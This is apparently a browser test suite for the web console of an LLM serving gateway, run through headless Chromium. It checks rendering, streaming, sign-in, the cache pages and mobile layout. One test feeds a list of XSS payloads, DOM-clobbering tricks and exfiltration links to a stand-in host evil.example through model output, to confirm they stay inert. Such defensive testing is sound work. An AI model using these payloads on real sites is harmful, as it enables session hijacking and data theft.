"""The console in a real browser: Debian's headless Chromium.

Where it is not installed (`apt-get install chromium`) these are skipped.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from browser import CHROMIUM, Browser, Page, chromium
from local_cache import local_cache
from scripted_member import Member, chunk, listening, says
from support.accounts import accounts_handle, bearer, managed, with_accounts
from support.feedback import feedback_handle
from support.gateway import ADMIN, DONE, Running, SimSettings, gateway
from support.graph import ADMIN_TOKEN, eventually
from support.model_configs import SOURCES, write_model

from deployments.engine.sizing import running_plan
from serve_app.model_store import ModelStore
from serve_app.planning.question import Question
from serve_app.settings import Settings, parse_args

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` (Debian: apt-get install chromium)")

STREAMING = SimSettings(itl_ms=25, tokens=40)
QUICK = SimSettings(itl_ms=0, tokens=6)
ENTER = 13
DONE_ANSWERS = "document.querySelectorAll('.answer[data-done=yes]').length"
FIRST_PAINT_MS = 500
MOST_REQUESTS = 6

HOSTILE = """
<script>window.owned = 1</script><img src=x onerror="window.owned = 2"><svg onload="window.owned = 3"></svg>
<iframe srcdoc="<script>parent.owned = 4</script>"></iframe><style>body { display: none }</style>
<form action="http://evil.example/"><input name=token></form><a href="javascript:window.owned = 5">press</a>

[a](javascript:window.owned=6) [b](data:text/html,<script>window.owned=7</script>)
[c](JaVaScRiPt&colon;window.owned=8)
![secret](http://evil.example/leak?q=secret) [fine](https://example.com/x)
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=9&gt;">
<a id="app" name="ROOT" href="http://evil.example/">clobber</a>

| table | <b onclick="window.owned=10">b</b> |
|---|---|
| `code` | **strong** |
"""


@pytest.fixture
async def browser(tmp_path: Path) -> AsyncIterator[Browser]:
    async with chromium(tmp_path / "profile") as browser:
        yield browser


@asynccontextmanager
async def console(browser: Browser, running: Running, **look: Any) -> AsyncIterator[Page]:
    """The console's page. At its end nothing of it was refused or has failed, and it has asked nobody but the
    gateway."""
    async with browser.page(f"{running.url}/console", **look) as page:
        await page.until("document.querySelector('nav a') !== null")
        yield page
        hosts = {urlsplit(url).netloc for url in page.requests if not url.startswith("data:")}
        assert hosts == {urlsplit(running.url).netloc}
        # That a request is refused is what some tests are about; Chromium logs each.
        assert [text for text in page.complaints if not text.startswith("Failed to load resource")] == []


async def ask(page: Page, text: str) -> None:
    """In the playground; until the answer is complete."""
    await page.until("document.querySelector('.composer[data-ready=yes]') !== null")
    before = await page.value(DONE_ANSWERS)
    await page.type("#prompt", text)
    await page.press("Enter", ENTER)
    await page.until(f"{DONE_ANSWERS} > {before}")


async def sign_in(page: Page, token: str = ADMIN_TOKEN) -> None:
    await page.type("#token", token)
    await page.press("Enter", ENTER)


async def go(page: Page, name: str) -> None:
    await page.value(f"location.hash = '#/{name}'")
    await page.until(f"document.querySelector('nav a[aria-current]').hash === '#/{name}'")


async def test_the_console_paints_at_once_with_few_requests_and_streams_an_answer(browser: Browser) -> None:
    async with gateway(STREAMING) as running, console(browser, running) as page:
        await page.until("document.querySelector('.composer[data-ready=yes]') !== null")
        paint = await page.value("performance.getEntriesByName('first-contentful-paint')[0].startTime")
        assert paint <= FIRST_PAINT_MS * 4  # a busy machine; the figure itself is a benchmark's
        assert len([url for url in page.requests if url.startswith("http")]) <= MOST_REQUESTS
        await page.type("#prompt", "tell me something")
        await page.press("Enter", ENTER)
        lengths = set()
        while not await page.value(f"{DONE_ANSWERS} > 0"):
            lengths.add(
                await page.value("document.querySelector('.answer .markdown')?.textContent.length ?? 0")
            )
            await asyncio.sleep(0.02)
        assert len(lengths) > 2, "it came at once"
        facts = await page.value("document.querySelector('.facts').innerText")
        assert "tok/s" in facts
        assert "first token" in facts
        steps = await page.value(
            "[...document.querySelectorAll('.waterfall tbody th')].map((e) => e.innerText)"
        )
        assert {"admit", "upstream-ttft", "tokens, as they came"} <= set(steps)


async def test_a_hit_shows_its_similarity_and_a_wrong_answer_is_reported(
    browser: Browser, folder: Path
) -> None:
    async with (
        local_cache(folder, race=False) as cache,
        gateway(QUICK, handles=cache.handles, **cache.args) as running,
        console(browser, running) as page,
    ):
        await ask(page, "what is the capital of france")
        await ask(page, "what is the capital of france")
        await page.until("document.querySelector('.answer[data-cache=exact]') !== null")

        async def stored() -> bool:
            return bool((await running.get("/admin/cache"))["entries"])

        assert await eventually(stored, within_s=10)
        await ask(page, "the capital of france is what")
        facts = await page.until("document.querySelector('.answer[data-cache=semantic] .facts')?.innerText")
        assert "similarity 1.0000" in facts.replace("\n", " ")

        await page.click(".judge button.danger")
        await sign_in(page)
        await page.until("document.querySelector('.sign-in') === null")
        await go(page, "cache")
        await page.click("#near-hits .judge button.danger")
        await page.until("document.querySelector('#near-hits .judged')?.innerText.startsWith('Reported')")
        stats = await running.get("/admin/cache")
        assert (stats["reported_wrong"], stats["entries"]) == (1, 0)


async def test_what_a_model_writes_stays_inert(browser: Browser) -> None:
    member = Member(says(chunk(HOSTILE), chunk("", finish_reason="stop", delta={}), DONE))
    async with (
        listening(member),
        gateway(others=[member.upstream()]) as running,
        console(browser, running) as page,
    ):
        await ask(page, "attack me")
        found = await page.value(
            """(() => {
                const box = document.querySelector('.answer .markdown');
                for (const link of box.querySelectorAll('a:not([href^="https:"])')) link.click();
                const all = [...box.querySelectorAll('*')];
                return {
                    owned: window.owned ?? null,
                    tags: [...new Set(all.map((e) => e.tagName))],
                    handlers: all.flatMap((e) => [...e.attributes]).filter((a) => /^on/.test(a.name)).length,
                    links: [...box.querySelectorAll('a[href]')].map((a) => [a.getAttribute('href'), a.rel]),
                    ids: all.filter((e) => e.id || e.getAttribute('name')).length,
                    shown: box.innerText.includes('window.owned = 1'),
                    table: box.querySelectorAll('td strong').length,
                }; })()"""
        )
        assert found["owned"] is None
        assert {"SCRIPT", "IMG", "SVG", "IFRAME", "STYLE", "FORM", "INPUT", "MATH"}.isdisjoint(found["tags"])
        assert (found["handlers"], found["ids"]) == (0, 0)
        assert found["links"] == [["https://example.com/x", "noopener noreferrer nofollow"]]
        assert found["shown"], "raw HTML is shown as text"
        assert found["table"] == 1
        # The policy refuses what would come of a mistake of the page's own.
        refused = await page.value(
            """(async () => {
                const seen = {}, script = document.createElement('script');
                const attempt = async (name, work) => {
                    try { await work(); seen[name] = 'done'; } catch (e) { seen[name] = e.name; } };
                await attempt('html', () => { document.body.innerHTML = '<b>x</b>'; });
                await attempt('fetch', () => fetch('http://evil.example/'));
                await attempt('script', () => { script.text = 'window.owned = 11'; });
                return [seen, window.owned ?? null]; })()"""
        )
        assert refused == [{"html": "TypeError", "fetch": "TypeError", "script": "TypeError"}, None]
        page.complaints.clear()
        page.requests[:] = [url for url in page.requests if "evil.example" not in url]


async def test_an_administrator_signs_in_and_sees_a_chart_that_moves(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        await asyncio.gather(*map(page.press, "gl"))  # the keys of the page Live, which are soon forgotten
        await page.until("location.hash === '#/live'")
        await sign_in(page, "the-wrong-token-of-somebody")
        refused = "document.querySelector('.sign-in .error')?.innerText"
        await page.until(f"{refused}?.includes('not this start')")
        await sign_in(page)
        await page.until("document.querySelector('.chart canvas') !== null")
        points = "Number(document.querySelector('.chart').dataset.points)"
        before = await page.value(points)
        pixels = "document.querySelector('.chart canvas').toDataURL()"
        drawn = await page.value(pixels)
        for _ in range(5):
            await running.post("hi")
        await page.until(f"{points} > {before} + 1")
        assert await page.value(pixels) != drawn
        # The token is in this tab only, and nowhere that outlives it.
        assert await page.value("[Object.keys(localStorage).length, document.cookie]") == [0, ""]
        assert ADMIN_TOKEN not in await page.value("document.documentElement.outerHTML")
        await page.click("#sign-out")
        await page.until("document.querySelector('.sign-in') !== null")
        assert await page.value("measured.points.length") == 0, "the next user is another one"


async def test_the_live_page_shows_what_all_gateways_counted(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        for _ in range(7):
            await running.post("hi")
        await go(page, "live")
        requests = "[...document.querySelectorAll('.tiles > *')].map((e) => e.innerText)"
        await page.until(f"{requests}.some((text) => /Requests/i.test(text) && /7/.test(text))")
        asked = {urlsplit(url).path for url in page.requests}
        # One path tells of all gateways; the counts of two answers could be those of two gateways.
        assert "/admin/latency" in asked
        assert not asked & {"/admin/traffic", "/admin/cache"}


async def test_an_administrator_sees_the_timeline_that_the_gateway_recorded(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        await ask(page, "what is the time")
        shown = "[...document.querySelectorAll('.waterfall tbody th')].map((e) => e.innerText).join()"
        await page.until(f"{shown}.includes('seen by this browser')")
        assert "upstream-ttft" in await page.value(shown)


async def test_steps_are_laid_out_as_server_timing_tells_them(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        header = "admit;dur=1, upstream-ttft;dur=10, upstream;dur=20, "
        header += "engine-queue;dur=2, prefill;dur=5, decode;dur=19"
        steps = await page.value(f"stepsOfServerTiming('{header}, overhead;dur=1.5, total;dur=32')")
        assert [(step["name"], step["start"], step["duration"]) for step in steps] == [
            ("admit", 0, 1),
            ("upstream-ttft", 1, 10),
            ("engine-queue", 4, 2),
            ("prefill", 6, 5),
            ("decode", 11, 19),
            ("upstream", 11, 20),
        ]
        assert await page.value(f"ownOverhead('{header}, overhead;dur=1.5')") == 1.5
        assert await page.value(f"ownOverhead('{header}')") == 1


async def test_requests_are_listed_opened_by_keyboard_and_replayed(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        await ask(page, "what is the time")
        await go(page, "requests")
        await sign_in(page)
        await page.until("document.querySelectorAll('.log tbody tr').length === 1")
        await page.value("document.querySelector('[data-request]').focus()")
        await page.press("Enter", ENTER)
        await page.until("document.querySelector('.detail .waterfall') !== null")
        text = await page.value("document.querySelector('.detail').innerText")
        assert "own overhead" in text
        await page.click(".detail button.primary")
        await page.until("document.querySelector('.detail .answer[data-done=yes]') !== null")
        await page.until("document.querySelectorAll('.log tbody tr').length === 2")
        await page.press("Escape")
        assert len(running.requests()) == 1
        assert running.requests() == [2]


async def test_all_turns_of_a_session_are_shown_whatever_the_filter_leaves(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        for number in range(4):
            headers = {"x-session-id": "agent", "x-request-id": f"turn-{number}"}
            await running.post(f"turn {number}", headers=headers, model="sim" if number else "unknown")
        for number in range(3):
            await running.post(f"other {number}", headers={"x-session-id": "another"})
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        await go(page, "requests")
        await page.until("document.querySelectorAll('.log tbody tr').length === 7")
        await page.value("scrollTo(0, 0)")
        await page.click("[data-request=turn-3]")
        await page.until("document.querySelectorAll('.detail .bars li').length === 3")


async def test_requests_of_one_id_are_rows_of_their_own(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        for text in ("one", "two", "three"):
            await running.post(text, headers={"x-request-id": "always-the-same"})
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        await go(page, "requests")
        await page.until("document.querySelectorAll('.log tbody tr').length === 3")
        await page.click(".log tbody tr:last-child [data-request]")
        await page.until("document.querySelector('.detail') !== null")
        chosen = "[...document.querySelectorAll('.log tbody tr')].map((row) => row.className)"
        assert await page.value(chosen) == ["", "", "chosen"]


async def test_the_fleet_page_says_why_the_autoscaler_acted_whatever_its_reasons_are(
    browser: Browser,
) -> None:
    changes = [
        {"at": 1.7e9, "from": 3, "to": 3, "needed": 1, "reason": "a_new_reason <b>", "sleep": 2},
        {"at": 1.6e9, "from": 1, "to": 3, "needed": 3, "reason": "backlog"},
    ]
    engine = {"status": "healthy", "message": "", "scaling": changes, "replicas": []}
    async with gateway(QUICK) as running, console(browser, running) as page:
        await page.value(
            f"""render(html`<${{Model}} model="m" members=${{[]}} engine=${{{json.dumps(engine)}}} />`,
            document.querySelector('main'))"""
        )
        rows = await page.value(
            "[...document.querySelectorAll('.scaling tbody tr')].map((row) => "
            "[...row.querySelectorAll('td')].map((cell) => cell.innerText))"
        )
        assert rows == [
            ["3 replicas, 2 put to sleep", "a new reason <b>", "1"],
            ["1 → 3 replicas", "backlog", "3"],
        ]


async def test_the_plan_page_shows_the_report_of_the_command_for_the_running_settings(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROMPTLY_CACHE", str(tmp_path / "cache"))
    source = "meta-llama/Llama-3.1-8B-Instruct"
    write_model(ModelStore(tmp_path / "cache").folder(source), SOURCES[source])
    engine = {"max_model_len": 16384, "accelerator_type": "H100"}
    known, unknown = (
        {"id": "m", "source": source, "engine": engine},
        {"id": "u", "source": "no/body", "engine": {}},
    )

    def planner(_: Settings, question: Question) -> dict[str, Any]:
        return running_plan(parse_args({"models": [known, unknown]}, source="test"), question)

    handles = {"planner": planner}
    async with gateway(QUICK, handles=handles) as running, console(browser, running) as page:
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        for key in "gn":  # the keys of the page Plan
            await page.press(key)
        text = await page.until("document.querySelector('[data-plan=m]')?.innerText")
        for shown in ("1 × H100", "KV cache", "weights", "prefill", "tool calls"):
            assert shown in text, shown
        assert "requests/s" not in text
        text = await page.value("document.querySelector('[data-plan=u]').innerText")
        assert "has no config.json of no/body" in text
        await page.type("input[name=rate]", "4")
        await page.press("Enter", ENTER)
        report = "document.querySelector('[data-plan=m] .report')?.innerText.includes"
        await page.until(f"{report}('load: 4 requests/s, 1,000 + 200 tokens')")
        await page.type("input[name=device]", "B9")
        await page.press("Enter", ENTER)
        await page.until("document.querySelector('main .error')?.innerText.includes('expected one of')")


async def test_two_models_answer_side_by_side_where_keys_are_used(browser: Browser) -> None:
    async with (
        gateway(QUICK, tenants=("a",), model={"aliases": ["other"]}) as running,
        console(browser, running) as page,
    ):
        await page.until("document.querySelector('.sign-in') !== null")
        await sign_in(page, running.keys["a"])
        await page.click("#side-by-side")
        await ask(page, "hi both")
        await page.until("document.querySelectorAll('.answers.n2 .answer[data-done=yes]').length === 2")
        await go(page, "fleet")
        await page.until("document.querySelector('.sign-in .error') !== null")
        await page.value("sessionStorage.clear()")
        await page.type("#token", running.keys[ADMIN])
        assert "admin" in await page.value("document.querySelector('.sign-in').innerText")


async def test_the_usage_page_shows_what_teams_used_and_groups_it(browser: Browser, tmp_path: Path) -> None:
    async with (
        accounts_handle(tmp_path / "accounts") as handle,
        with_accounts(handle) as running,
        console(browser, running) as page,
    ):
        key, kept = managed("team-a", user="<img src=x onerror='window.owned=1'>")
        await handle.target.make_key(kept)

        async def counted() -> bool:
            await running.post("hello", bearer(key))
            return bool((await running.get("/admin/usage"))["usage"])

        assert await eventually(counted, within_s=20)
        await page.value(f"session.signIn({ADMIN_TOKEN!r})")
        for letter in "gu":  # the keys of the page Usage
            await page.press(letter)
        text = await page.until("document.querySelector('[data-usage]')?.innerText")
        assert "team-a" in text
        assert "total" in text
        await page.click("button[data-by=user]")
        await page.until("document.querySelector('[data-usage]')?.innerText.includes('onerror')")
        assert await page.value("window.owned === undefined")
        await page.type("input[name=tenant]", "nobody")
        await page.press("Enter", ENTER)
        await page.until("document.querySelector('.empty')?.innerText.includes('Nothing was used')")
        await page.type("input[name=from]", "yesterday")
        await page.press("Enter", ENTER)
        await page.until("document.querySelector('main .error')?.innerText.includes('expected a UTC day')")


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
async def test_on_a_phone_nothing_is_cut_off_and_every_control_has_a_name(
    browser: Browser, dark: bool
) -> None:
    async with (
        gateway(QUICK) as running,
        console(browser, running, width=375, height=740, phone=True, dark=dark) as page,
    ):
        await ask(page, "hello " + "a-very-long-word" * 30)
        for name in ("playground", "requests", "live", "fleet", "cache", "alerts", "plan", "usage"):
            await go(page, name)
            if name == "requests":
                await sign_in(page)
                await page.until("document.querySelector('.log') !== null")
            assert await page.value("document.documentElement.scrollWidth") <= 375, name
            unnamed = await page.value(
                """[...document.querySelectorAll('button, a[href], input, select, textarea')].filter((e) =>
                !(e.innerText || '').trim() && !e.getAttribute('aria-label') && !(e.labels && e.labels.length
                && [...e.labels].some((l) => l.innerText.trim()))).map((e) => e.outerHTML)"""
            )
            assert unnamed == [], name
        ground = await page.value("getComputedStyle(document.body).backgroundColor")
        assert (sum(map(int, ground.removeprefix("rgb(").removesuffix(")").split(","))) < 200) is dark


async def test_arms_of_an_experiment_are_side_by_side_and_a_request_names_its_own(browser: Browser) -> None:
    arm = {"name": "cool", "percent": 100.0, "settings": {"temperature": 0.0}}
    given = {"experiments": [{"name": "heat", "arms": [arm]}]}
    async with gateway(QUICK, **given) as running, console(browser, running) as page:
        await ask(page, "what is the time")
        await go(page, "live")
        await sign_in(page)
        rows = "[...document.querySelectorAll('[data-experiment=heat] tbody tr')].map((e) => e.innerText)"
        control, cool = await page.until(f"{rows}.length === 2 && {rows}")
        assert control.split()[:3] == ["control", "0", "0"]
        assert cool.split()[:3] == ["cool", "1", "0"]
        await go(page, "requests")
        await page.click("[data-request]")
        known = "document.querySelector('.detail .known')?.innerText"
        await page.until(f"{known}?.includes('heat=cool')")


async def test_the_page_of_the_cache_knows_its_hit_rate(browser: Browser, folder: Path) -> None:
    async with (
        local_cache(folder, race=False) as cache,
        gateway(QUICK, handles=cache.handles, **cache.args) as running,
        console(browser, running) as page,
    ):
        await ask(page, "what is the capital of france")
        await ask(page, "what is the capital of france")
        await go(page, "cache")
        await sign_in(page)
        tiles = "[...document.querySelectorAll('.tile')].map((e) => e.innerText).join()"
        await page.until(f"{tiles}.includes('50.0 %')")


async def test_an_alert_that_fires_is_shown_with_its_change(browser: Browser) -> None:
    alerts = {"period_s": 0.05, "hold_s": 0.0, "min_requests": 3, "loop_requests": 3}
    async with gateway(QUICK, alerts=alerts) as running, console(browser, running) as page:
        await go(page, "alerts")
        await sign_in(page)
        await page.until("document.querySelector('[aria-label=Firing]')?.innerText.includes('All quiet')")
        for _ in range(3):
            await running.post("run the tests", {"x-session-id": "an agent"})
        await page.until("document.querySelector('.alerts h2')?.innerText.includes('looping sessions')")
        await page.until("document.querySelector('main').innerText.includes('looping sessions, sim')")


async def test_entries_of_the_cache_are_shown_and_purged(browser: Browser, folder: Path) -> None:
    async with (
        local_cache(folder, race=False) as cache,
        gateway(QUICK, handles=cache.handles, **cache.args) as running,
        console(browser, running) as page,
    ):
        await ask(page, "what is the capital of france")

        async def stored() -> bool:
            return bool((await running.get("/admin/cache"))["entries"])

        assert await eventually(stored, within_s=10)
        await go(page, "cache")
        await sign_in(page)
        await page.until("document.querySelector('form.filters') !== null")
        await page.type("form.filters input", "sim")
        await page.click("form.filters button[type=submit]")
        rows = "document.querySelector('table.grid tbody')"
        await page.until(f"{rows}?.innerText.includes('what is the capital of france')")
        await page.value("window.confirm = (text) => { window.asked = text; return true; }; 0")
        await page.click("form.filters button.danger")
        await page.until(f"{rows} === null")
        assert await page.value("window.asked") == "Remove every entry whose model is sim?"
        assert (await running.get("/admin/cache"))["entries"] == 0


async def test_thumbs_say_what_a_person_thinks_of_an_answer(browser: Browser, tmp_path: Path) -> None:
    async with (
        feedback_handle(tmp_path / "said") as handle,
        gateway(QUICK, handles={"feedback": handle}, feedback={}) as running,
        console(browser, running) as page,
    ):
        await ask(page, "what is the capital of france")
        await page.click("[data-thumb='0']")
        await page.until("document.querySelector('.thumbs .judged') !== null")
        await page.type(".thumbs input", "it names Lyon")
        await page.press("Enter", ENTER)

        async def said() -> bool:
            found = (await running.get("/admin/feedback"))["feedback"]
            return [(each["score"], each["text"]) for each in found] == [(0.0, "it names Lyon")]

        assert await eventually(said, within_s=20)


async def test_thumbs_say_so_where_no_feedback_is_kept(browser: Browser) -> None:
    async with gateway(QUICK) as running, console(browser, running) as page:
        await ask(page, "hello")
        await page.click("[data-thumb='1']")
        await page.until("document.querySelector('.measured .note')?.innerText.includes('no feedback')")


async def test_the_page_of_the_plan_shows_suggestions_where_requests_are_kept(
    browser: Browser, tmp_path: Path
) -> None:
    async with (
        feedback_handle(tmp_path / "said") as handle,
        gateway(QUICK, handles={"feedback": handle}, feedback={}) as running,
        console(browser, running) as page,
    ):
        await go(page, "plan")
        await sign_in(page)
        await page.until("document.querySelector('[data-suggestions=\"0\"]') !== null")
